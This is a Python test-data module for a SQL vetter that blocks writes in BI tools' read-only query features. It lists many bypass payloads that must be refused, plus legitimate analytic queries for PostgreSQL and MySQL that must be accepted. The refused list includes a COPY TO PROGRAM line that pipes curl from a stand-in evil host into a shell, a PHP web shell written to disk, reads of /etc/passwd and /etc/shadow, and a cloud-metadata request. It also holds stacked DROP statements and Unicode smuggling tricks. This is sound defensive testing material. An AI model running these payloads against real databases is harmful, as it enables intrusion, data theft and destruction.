"""Queries for the vetting tests: bypass payloads that must be refused on both dialects,
and analytic SELECTs that must be accepted.

The payloads follow the published ways around "read-only SQL" features of BI tools
(Superset's SQL Lab and Metabase native queries: CVE-2023-39265/CVE-2023-37941-style
writes through CTEs and SELECT INTO, CVE-2021-41277-style file reads, stacked statements,
comment and executable-comment tricks, timing functions, out-of-band reads) and the
classic SQL-injection cheat sheets for PostgreSQL and MySQL. Each is (name, sql).
"""

from __future__ import annotations

REFUSED: list[tuple[str, str]] = [
    # Stacked statements, some hidden behind comments.
    ("stacked drop", "SELECT 1; DROP TABLE users"),
    ("stacked drop with trailing comment", "SELECT 1;DROP TABLE users;--"),
    ("block comment before a second statement", "SELECT 1 /* harmless */; DELETE FROM users"),
    ("line comment then newline", "SELECT 1 -- just a comment\n; UPDATE users SET admin = true"),
    ("commit in the middle", "SELECT 1; COMMIT; DROP TABLE users"),
    ("stacked insert", "SELECT * FROM users WHERE id = 1; INSERT INTO audit VALUES (1)"),
    ("parenthesised then stacked", "(SELECT 1); DROP TABLE users"),
    ("transaction block", "BEGIN; DELETE FROM users; COMMIT"),
    ("stacked set role", "SELECT 'a'; SET ROLE postgres"),
    # Statements that write or act, at the root.
    ("insert", "INSERT INTO users (name) VALUES ('x')"),
    ("update", "UPDATE users SET admin = true"),
    ("delete", "DELETE FROM users"),
    ("merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    ("create table", "CREATE TABLE pwned (a int)"),
    ("create table as select", "CREATE TABLE pwned AS SELECT * FROM users"),
    ("create function", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"),
    ("drop", "DROP TABLE users"),
    ("alter", "ALTER TABLE users ADD COLUMN x int"),
    ("truncate", "TRUNCATE users"),
    ("grant", "GRANT ALL ON users TO public"),
    ("copy to file", "COPY users TO '/tmp/users.csv'"),
    ("copy to program", "COPY (SELECT 1) TO PROGRAM 'curl http://evil.example/x | sh'"),
    ("copy from program", "COPY users FROM PROGRAM 'id'"),
    ("do block", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$"),
    ("mysql do", "DO sleep(10)"),
    ("call", "CALL cleanup()"),
    ("execute", "EXECUTE stmt"),
    ("prepare", "PREPARE p AS DELETE FROM users"),
    ("set search path", "SET search_path = evil"),
    ("set role", "SET ROLE postgres"),
    ("set user variable", "SET @a = 1"),
    ("set global", "SET GLOBAL max_connections = 1"),
    ("set session read write", "SET SESSION TRANSACTION READ WRITE"),
    ("attach", "ATTACH DATABASE '/tmp/x.db' AS x"),
    ("pragma", "PRAGMA writable_schema = 1"),
    ("load library", "LOAD 'plpython3u'"),
    ("load data local infile", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t"),
    ("vacuum", "VACUUM FULL users"),
    ("lock table", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
    ("refresh materialized view", "REFRESH MATERIALIZED VIEW mv"),
    ("listen", "LISTEN channel"),
    ("notify", "NOTIFY channel, 'x'"),
    ("explain analyze runs the delete", "EXPLAIN ANALYZE DELETE FROM users"),
    ("handler", "HANDLER users OPEN"),
    ("use", "USE mysql"),
    ("kill", "KILL 1"),
    ("flush", "FLUSH PRIVILEGES"),
    ("install plugin", "INSTALL PLUGIN x SONAME 'x.so'"),
    ("shutdown", "SHUTDOWN"),
    ("values at the root", "VALUES (1)"),
    # Writes hidden inside a SELECT.
    ("cte that deletes", "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone"),
    (
        "cte that updates",
        "WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM x",
    ),
    ("cte that inserts", "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT 1"),
    ("select into table", "SELECT * INTO pwned FROM users"),
    ("select into temp table", "SELECT * INTO TEMP pwned FROM users"),
    ("for update", "SELECT * FROM users FOR UPDATE"),
    ("for share", "SELECT * FROM users FOR SHARE"),
    ("for no key update skip locked", "SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED"),
    ("lock in share mode", "SELECT * FROM users LOCK IN SHARE MODE"),
    ("lock in a subquery", "SELECT id FROM (SELECT id FROM users FOR UPDATE) AS u"),
    # MySQL files, timing, locks, variables, executable comments and hints.
    ("into outfile", "SELECT * FROM users INTO OUTFILE '/tmp/users.txt'"),
    (
        "into dumpfile web shell",
        "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/s.php'",
    ),
    ("into user variable", "SELECT 1 INTO @secret"),
    ("load_file", "SELECT load_file('/etc/passwd')"),
    ("sleep", "SELECT sleep(10)"),
    ("sleep in where", "SELECT * FROM users WHERE id = 1 AND sleep(10)"),
    ("benchmark", "SELECT benchmark(100000000, md5('x'))"),
    ("get_lock", "SELECT get_lock('x', 100)"),
    ("release_lock", "SELECT release_lock('x')"),
    ("master_pos_wait", "SELECT master_pos_wait('log', 4)"),
    ("sys_exec udf", "SELECT sys_exec('id')"),
    ("sys_eval udf", "SELECT sys_eval('cat /etc/passwd')"),
    ("variable assignment", "SELECT @x := 1"),
    ("row counter assignment", "SELECT (@n := @n + 1) AS rownum FROM users"),
    ("user variable read", "SELECT @secret"),
    ("executable comment with sleep", "SELECT /*!50000 sleep(10) */ 1"),
    ("executable comment hiding a drop", "SELECT 1 /*! ; DROP TABLE users */"),
    ("mariadb executable comment", "SELECT /*M!100000 sleep(10) */ 1"),
    ("hint lifting the time limit", "SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM users"),
    ("max_execution_time hint", "SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM users"),
    # PostgreSQL functions with side effects, file access or other servers.
    ("pg_sleep", "SELECT pg_sleep(10)"),
    ("pg_sleep qualified", "SELECT pg_catalog.pg_sleep(10)"),
    ("pg_sleep quoted", 'SELECT "pg_sleep"(10)'),
    ("pg_sleep mixed case", "SeLeCt Pg_SlEeP(10)"),
    ("pg_sleep_for", "SELECT pg_sleep_for('10 seconds')"),
    ("pg_sleep as a table", "SELECT * FROM pg_sleep(10)"),
    ("pg_read_file", "SELECT pg_read_file('/etc/passwd')"),
    ("pg_read_binary_file", "SELECT pg_read_binary_file('/etc/shadow')"),
    ("pg_ls_dir", "SELECT * FROM pg_ls_dir('/')"),
    ("pg_stat_file", "SELECT pg_stat_file('/etc/passwd')"),
    ("lo_import", "SELECT lo_import('/etc/passwd')"),
    ("lo_export", "SELECT lo_export(16384, '/tmp/x')"),
    ("lo_from_bytea", "SELECT lo_from_bytea(0, 'x')"),
    ("dblink", "SELECT * FROM dblink('host=10.0.0.1', 'DROP TABLE users') AS t(x text)"),
    ("dblink_exec", "SELECT dblink_exec('dbname=prod', 'DELETE FROM users')"),
    ("set_config read write", "SELECT set_config('default_transaction_read_only', 'off', false)"),
    ("pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    ("pg_cancel_backend", "SELECT pg_cancel_backend(1234)"),
    ("pg_reload_conf", "SELECT pg_reload_conf()"),
    ("pg_rotate_logfile", "SELECT pg_rotate_logfile()"),
    ("nextval", "SELECT nextval('users_id_seq')"),
    ("setval", "SELECT setval('users_id_seq', 1)"),
    ("txid_current", "SELECT txid_current()"),
    ("pg_advisory_lock", "SELECT pg_advisory_lock(1)"),
    ("pg_try_advisory_xact_lock", "SELECT pg_try_advisory_xact_lock(1)"),
    (
        "query_to_xml runs sql",
        "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')",
    ),
    ("table_to_xml", "SELECT table_to_xml('users', true, true, '')"),
    ("ts_stat runs sql", "SELECT ts_stat('SELECT to_tsvector(secret) FROM secrets')"),
    ("pg_notify", "SELECT pg_notify('channel', 'x')"),
    ("http extension", "SELECT http_get('http://169.254.169.254/latest/meta-data/')"),
    ("pg_cron", "SELECT cron.schedule('* * * * *', 'DELETE FROM users')"),
    ("pg_cron as a table", "SELECT * FROM cron.schedule('* * * * *', 'DELETE FROM users')"),
    ("replication slot", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')"),
    # Functions nested deep inside an otherwise plain query.
    ("sleep in an in-subquery", "SELECT * FROM users WHERE id IN (SELECT pg_sleep(10))"),
    ("file read three levels down", "SELECT (SELECT (SELECT lo_import('/etc/passwd')))"),
    ("sleep in a case", "SELECT CASE WHEN true THEN pg_sleep(10) END"),
    (
        "file read in a lateral join",
        "SELECT * FROM users u JOIN LATERAL (SELECT pg_read_file('/etc/passwd') AS f) x ON true",
    ),
    (
        "sleep in a second cte",
        "WITH a AS (SELECT 1), b AS (SELECT sleep(5) FROM a) SELECT * FROM b",
    ),
    ("sleep in a union branch", "SELECT 1 UNION ALL SELECT pg_sleep(10)"),
    ("set_config in coalesce", "SELECT coalesce(NULL, set_config('role', 'postgres', false))"),
    ("dblink in exists", "SELECT 1 WHERE EXISTS (SELECT 1 FROM dblink('x', 'y') AS t(a int))"),
    ("sleep in a filter clause", "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM users"),
    ("sleep in a window order", "SELECT sum(x) OVER (ORDER BY pg_sleep(1)::text) FROM users"),
    ("benchmark in order by", "SELECT id FROM users ORDER BY benchmark(1000000, sha1('x'))"),
    ("lock in a cte", "WITH u AS (SELECT * FROM users FOR UPDATE) SELECT * FROM u"),
    # Parameters and placeholders.
    ("percent placeholder", "SELECT * FROM users WHERE id = %s"),
    ("question placeholder", "SELECT * FROM users WHERE id = ?"),
    ("named placeholder", "SELECT * FROM users WHERE id = :id"),
    # Unicode and encoding tricks.
    ("fullwidth semicolon", "SELECT 1\uff1bDROP TABLE users"),
    ("fullwidth keywords", "\uff33\uff25\uff2c\uff25\uff23\uff34 1; DROP TABLE users"),
    ("fullwidth function name", "SELECT \uff50\uff47_\uff53\uff4c\uff45\uff45\uff50(10)"),
    ("zero-width space in a name", "SELECT pg\u200b_sleep(10)"),
    ("right-to-left override", "SELECT 1 /* \u202e */; DROP TABLE users"),
    ("nul byte", "SELECT 1\x00; DROP TABLE users"),
    ("vertical tab", "SELECT 1\x0b; DROP TABLE users"),
    ("empty", "   "),
    ("only a comment", "-- SELECT 1"),
]

# Refused on PostgreSQL only: on MySQL `$1` is an ordinary column name.
REFUSED_POSTGRES: list[tuple[str, str]] = [
    ("dollar parameter", "SELECT * FROM users WHERE id = $1"),
    ("dollar parameter in a function", "SELECT * FROM users WHERE id = abs($1)"),
]

# Legitimate analytic queries, accepted on PostgreSQL and on MySQL/MariaDB.
ACCEPTED_BOTH: list[str] = [
    "SELECT id, name FROM customers",
    "SELECT 1 AS one",
    "SELECT 1;",
    "/* the monthly report */ SELECT id FROM deals -- that is all",
    "select lower(name) from customers where id = 1",
    "SELECT c.region, count(*) AS deals, sum(d.amount) AS total FROM deals d "
    "JOIN customers c ON c.id = d.customer_id WHERE d.stage = 'won' "
    "GROUP BY c.region HAVING sum(d.amount) > 1000 ORDER BY total DESC",
    "WITH totals AS (SELECT customer_id, sum(amount) AS total FROM deals GROUP BY customer_id) "
    "SELECT * FROM totals WHERE total > 10",
    "WITH a AS (SELECT 1 AS x), b AS (SELECT x + 1 AS y FROM a) SELECT * FROM a CROSS JOIN b",
    "SELECT id, amount, row_number() OVER (PARTITION BY customer_id ORDER BY closed_at) AS n, "
    "sum(amount) OVER (ORDER BY closed_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) "
    "AS running FROM deals",
    "SELECT id, lag(amount) OVER (PARTITION BY customer_id ORDER BY closed_at) AS previous, "
    "rank() OVER (ORDER BY amount DESC) FROM deals",
    "SELECT CASE WHEN amount > 100 THEN 'big' WHEN amount > 10 THEN 'medium' ELSE 'small' END "
    "AS size, count(*) FROM deals GROUP BY 1",
    "SELECT id FROM leads UNION ALL SELECT id FROM archived_leads",
    "SELECT id FROM leads UNION SELECT id FROM archived_leads ORDER BY id",
    "SELECT a.id FROM a LEFT JOIN b ON a.id = b.a_id WHERE b.id IS NULL",
    "SELECT * FROM deals WHERE closed_at >= '2024-01-01' AND stage IN ('won', 'lost') "
    "AND name LIKE 'A%'",
    "SELECT coalesce(region, 'unknown') AS region, avg(amount), min(amount), max(amount) "
    "FROM deals GROUP BY coalesce(region, 'unknown')",
    "SELECT * FROM (SELECT customer_id, count(*) AS n FROM deals GROUP BY customer_id) AS t "
    "WHERE n > 2",
    "SELECT id FROM deals WHERE customer_id IN (SELECT id FROM customers WHERE active = 1) "
    "AND EXISTS (SELECT 1 FROM notes WHERE notes.deal_id = deals.id)",
    "SELECT count(DISTINCT customer_id) FROM deals WHERE amount BETWEEN 10 AND 100",
    "SELECT id, CAST(amount AS DECIMAL(12, 2)) AS amount FROM deals "
    "ORDER BY id LIMIT 100 OFFSET 10",
    "SELECT current_date, current_timestamp",
    "SELECT upper(name), lower(email), length(name), substring(name, 1, 3), trim(name), "
    "replace(name, 'a', 'b') FROM customers",
    "SELECT id, nullif(amount, 0), greatest(a, b), least(a, b), abs(x), round(amount, 2) "
    "FROM deals",
    "SELECT 'it''s' AS quoted, 'semi;colon' AS s, '-- not a comment' AS c, "
    "'/* nor this */' AS d, 'DROP TABLE users' AS e",
    "SELECT sleep_minutes, benchmark_score, lo_value, pg_sleep_count FROM health",
    "WITH RECURSIVE tree AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL "
    "UNION ALL SELECT n.id, n.parent_id FROM nodes n JOIN tree t ON n.parent_id = t.id) "
    "SELECT * FROM tree",
    "SELECT region, sum(CASE WHEN stage = 'won' THEN amount ELSE 0 END) / "
    "nullif(sum(amount), 0) AS win_rate FROM deals GROUP BY region",
    "SELECT d.id, c.name FROM deals d INNER JOIN customers c ON c.id = d.customer_id "
    "LEFT OUTER JOIN regions r ON r.id = c.region_id RIGHT JOIN x ON x.id = r.id",
    "SELECT id FROM deals WHERE amount > (SELECT avg(amount) FROM deals)",
    "SELECT id FROM deals WHERE NOT (stage = 'lost' OR amount < 0) AND region IS NOT NULL",
    "(SELECT id FROM deals)",
]

ACCEPTED_POSTGRES: list[str] = [
    "SELECT date_trunc('month', closed_at) AS month, sum(amount) FROM deals GROUP BY 1 ORDER BY 1",
    "SELECT closed_at::date, amount::numeric(12,2), payload->>'source', tags @> ARRAY['vip'] "
    "FROM deals",
    "SELECT DISTINCT ON (customer_id) customer_id, closed_at FROM deals "
    "ORDER BY customer_id, closed_at DESC",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount), "
    "count(*) FILTER (WHERE stage = 'won') FROM deals",
    "SELECT generate_series(1, 12) AS month",
    "SELECT extract(year FROM closed_at), closed_at AT TIME ZONE 'UTC', "
    "now() - interval '30 days' FROM deals",
    "SELECT string_agg(name, ', ' ORDER BY name), array_agg(id) FROM customers",
    "SELECT * FROM deals WHERE name ILIKE '%acme%' AND email ~ '@example\\.com$'",
    "SELECT current_setting('TimeZone')",
    "SELECT to_char(closed_at, 'YYYY-MM') AS month, count(*) FROM deals GROUP BY ROLLUP (1)",
    "SELECT $$dollar ; quoted; DROP TABLE users$$ AS s",
    "SELECT u.x FROM unnest(ARRAY[1, 2, 3]) AS u(x)",
    "SELECT * FROM deals d, LATERAL (SELECT count(*) AS n FROM notes WHERE notes.deal_id = d.id) x",
    "SELECT a IS DISTINCT FROM b FROM t",
    "SELECT jsonb_array_length(payload->'items') FROM deals",
    "SELECT count(*) FROM deals WHERE closed_at > now() - make_interval(days => 30)",
    "SELECT id FROM deals INTERSECT SELECT deal_id FROM notes",
    "SELECT id FROM deals EXCEPT SELECT deal_id FROM notes",
    'SELECT "Customer Name", "order"."ID" FROM "Sales"."order"',
    "SELECT * FROM deals FETCH FIRST 10 ROWS ONLY",
    "SELECT date_part('dow', closed_at), age(closed_at), justify_days(interval '40 days') "
    "FROM deals",
    "SELECT E'it\\'s', U&'\\0041'",
]

ACCEPTED_MYSQL: list[str] = [
    "SELECT DATE_FORMAT(closed_at, '%Y-%m') AS month, SUM(amount) FROM deals GROUP BY month",
    "SELECT IFNULL(region, 'none'), GROUP_CONCAT(name ORDER BY name SEPARATOR ', ') "
    "FROM customers GROUP BY region",
    "SELECT `order`.`id` FROM `order` WHERE `order`.`status` = 'paid'",
    "SELECT DATE_SUB(NOW(), INTERVAL 30 DAY), TIMESTAMPDIFF(DAY, created_at, closed_at) FROM deals",
    "SELECT JSON_EXTRACT(payload, '$.source'), payload->>'$.source' FROM deals",
    "SELECT IF(amount > 100, 'big', 'small') FROM deals",
    "SELECT * FROM deals USE INDEX (closed_at_idx) WHERE closed_at > '2024-01-01'",
    "SELECT @@time_zone",
    "SELECT SQL_NO_CACHE id FROM deals",
    "SELECT name FROM customers WHERE name REGEXP '^A'",
    "SELECT CONVERT(name USING utf8mb4) FROM customers",
    "SELECT YEAR(closed_at), QUARTER(closed_at), MONTH(closed_at) FROM deals",
    "SELECT 'a\\'; DROP TABLE users; --' AS not_a_statement",
    "SELECT * FROM a STRAIGHT_JOIN b ON a.id = b.a_id",
    "SELECT UNIX_TIMESTAMP(closed_at), FROM_UNIXTIME(0) FROM deals",
]
